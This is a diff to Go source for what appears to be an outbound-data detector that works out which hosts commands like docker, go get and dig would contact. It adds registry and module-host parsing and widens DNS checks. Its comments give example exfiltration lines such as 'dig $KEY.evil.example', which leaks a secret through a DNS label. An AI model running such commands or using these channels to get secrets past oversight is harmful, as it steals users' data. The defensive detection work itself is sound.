@@ -396,7 +396,8 @@ var senders = map[string]func(args []string, cwd string) []string{
 	// sends it too.
 	"npm": urlArgDests, "pnpm": urlArgDests, "yarn": urlArgDests, "bun": urlArgDests, "pip": urlArgDests,
 	"pip3": urlArgDests, "pipx": urlArgDests, "uv": urlArgDests, "gem": urlArgDests, "cargo": urlArgDests,
-	"helm": urlArgDests, "kubectl": urlArgDests, "docker": urlArgDests, "podman": urlArgDests, "brew": urlArgDests,
+	"helm": urlArgDests, "kubectl": urlArgDests, "docker": imageDests, "podman": imageDests, "nerdctl": imageDests,
+	"brew": urlArgDests, "go": goModuleDests,
 	"composer": urlArgDests, "xdg-open": urlArgDests, "open": urlArgDests, "wslview": urlArgDests,
 	"sensible-browser": urlArgDests, "firefox": urlArgDests, "chromium": urlArgDests, "google-chrome": urlArgDests,
 }
@@ -411,6 +412,76 @@ func urlArgDests(args []string, _ string) []string {
 				out = appendNew(out, h)
 			}
 		}
+	}
+	return out
+}
+
+// imageDests: the hosts of URL arguments, and the registry of an image a
+// container tool pulls, pushes or runs (docker pull REGISTRY/NAME:TAG): the
+// image's name, which the registry is asked for, carries data to whoever
+// holds that host. An image without a registry (nginx, library/redis) is
+// Docker Hub's.
+func imageDests(args []string, cwd string) []string {
+	out := urlArgDests(args, cwd)
+	words := nonOptions(args)
+	if len(words) < 2 {
+		return out
+	}
+	switch words[0] {
+	case "pull", "push", "run", "create":
+	default:
+		return out
+	}
+	for _, w := range words[1:] {
+		if h := imageRegistry(w); h != "" {
+			out = appendNew(out, h)
+		}
+	}
+	return out
+}
+
+// imageRegistry returns the registry host of an image reference whose
+// first component names a host of the network (has a "."), or "".
+func imageRegistry(w string) string {
+	if strings.ContainsAny(w, "=\\ $`'\"") || strings.HasPrefix(w, "/") || strings.HasPrefix(w, ".") || strings.Contains(w, "://") {
+		return ""
+	}
+	first, _, ok := strings.Cut(w, "/")
+	if !ok || first == "" {
+		return ""
+	}
+	host, _, _ := strings.Cut(strings.ToLower(first), ":")
+	if host == "localhost" || strings.HasPrefix(host, "127.") || !strings.Contains(host, ".") || !looksLikeHost(host) {
+		return "" // Docker Hub's, or a registry on this machine
+	}
+	return host
+}
+
+// goModuleDests: the hosts of the modules go get, go install and go run
+// fetch (go get evil.example/x@v1): the proxy, when one is used, asks the
+// module's host for it, path and all.
+func goModuleDests(args []string, _ string) []string {
+	words := nonOptions(args)
+	if len(words) < 2 {
+		return nil
+	}
+	switch words[0] {
+	case "get", "install", "run":
+	default:
+		return nil
+	}
+	var out []string
+	for _, w := range words[1:] {
+		mod, _, _ := strings.Cut(w, "@")
+		if words[0] != "get" && !strings.Contains(w, "@") {
+			continue // go install ./cmd/x, go run main.go: the module's own code
+		}
+		if h := imageRegistry(mod); h != "" {
+			out = appendNew(out, h)
+		}
+	}
+	if len(out) == 0 {
+		return nil
 	}
 	return out
 }
@@ -904,14 +975,19 @@ func mailDests(args []string, _ string) []string {
 }
 
 // dnsDests: a lookup sends its name to the name's servers: the data is in
-// the labels.
+// the labels. A name with a label below its domain (x.evil.example) reaches
+// the domain's own servers, whoever holds it, and that one label carries up
+// to 63 bytes: dig $KEY.evil.example, or a value spelled by hand after a
+// secret read (before, names of fewer than four labels were not judged as
+// sends at all). A bare domain (evil.example) reaches its top-level
+// domain's servers only.
 func dnsDests(args []string, _ string) []string {
 	out := []string{}
 	for _, x := range args {
 		if strings.HasPrefix(x, "-") || strings.HasPrefix(x, "@") || strings.HasPrefix(x, "+") {
 			continue
 		}
-		if looksLikeHost(x) && strings.Count(x, ".") >= 3 {
+		if looksLikeHost(x) && !isIPv4(x) && strings.Count(strings.TrimSuffix(x, "."), ".") >= 2 {
 			labels := strings.Split(strings.TrimSuffix(strings.ToLower(x), "."), ".")
 			out = appendNew(out, strings.Join(labels[len(labels)-2:], "."))
 			continue
